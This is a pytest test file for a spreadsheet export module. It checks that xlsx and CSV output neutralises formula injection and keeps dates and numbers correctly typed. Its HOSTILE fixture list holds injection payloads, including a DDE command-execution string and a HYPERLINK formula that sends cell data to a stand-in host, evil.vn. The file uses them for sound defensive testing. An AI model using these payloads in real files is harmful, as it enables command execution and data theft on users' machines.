"""Tables for a spreadsheet program: what people wrote stays text, days are days, numbers are numbers."""

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from python_calamine import CalamineWorkbook

from reports.spreadsheet import csv_text, xlsx

MADE = datetime(2023, 2, 1, 8, 0)

HOSTILE = [
    "=1+1",
    "+84 91",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "=cmd|' /C calc'!A0",
    "a;=1",
    'a";=1;"',
    "'=1",
    "<script>alert(1)</script>",
    "{{7*7}}",
    '=HYPERLINK("http://evil.vn?"&A1)',
    "http://evil.vn",
    "internal:Sheet1!A1",
]


def opened(data: bytes) -> list[list[object]]:
    rows: list[list[object]] = (
        CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    )
    return rows


@pytest.mark.parametrize("text", HOSTILE)
def test_in_a_workbook_text_is_text_and_no_formula(text: str) -> None:
    data = xlsx("Bảng", ["Tên"], [[text]], MADE)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert str(opened(data)[1][0]).split() == text.split()


@pytest.mark.parametrize("text", HOSTILE)
def test_in_a_csv_no_field_begins_as_a_formula(text: str) -> None:
    [_, [cell]] = csv.reader(io.StringIO(csv_text(["Tên"], [[text]]).decode("utf-8-sig"), newline=""))
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert cell.removeprefix("'") == text.removeprefix("'")


def test_a_separator_of_another_locale_parts_nothing() -> None:
    line = csv_text(["Tên", "Số"], [["a;=1", 5]]).decode("utf-8-sig").splitlines()[1]
    assert line == '"a;=1","5"'


def test_days_are_days_and_numbers_are_numbers() -> None:
    row = [date(2023, 2, 14), datetime(2023, 2, 14, 8, 30), 7, Decimal("73.6"), None, "Đôn đốc"]
    data = xlsx("Bảng", list("abcdef"), [row], MADE)
    assert opened(data)[1] == [date(2023, 2, 14), datetime(2023, 2, 14, 8, 30), 7.0, 73.6, "", "Đôn đốc"]
    assert csv_text(list("abcdef"), [row]).decode("utf-8-sig").splitlines()[1] == (
        '"14/02/2023","14/02/2023 08:30","7","73.6","","Đôn đốc"'
    )


def test_the_same_table_gives_the_same_bytes() -> None:
    rows = [["Trường A", 1], ["Trường B", 2]]
    assert xlsx("Bảng", ["Tên", "Số"], rows, MADE) == xlsx("Bảng", ["Tên", "Số"], rows, MADE)


def test_an_odd_title_and_an_endless_cell_are_cut_to_what_the_format_allows() -> None:
    data = xlsx("Bảng [tháng]: 2/2023? " * 3, ["Tên"], [["x" * 40_000 + "\0"]], MADE)
    assert len(str(opened(data)[1][0])) == 32_767
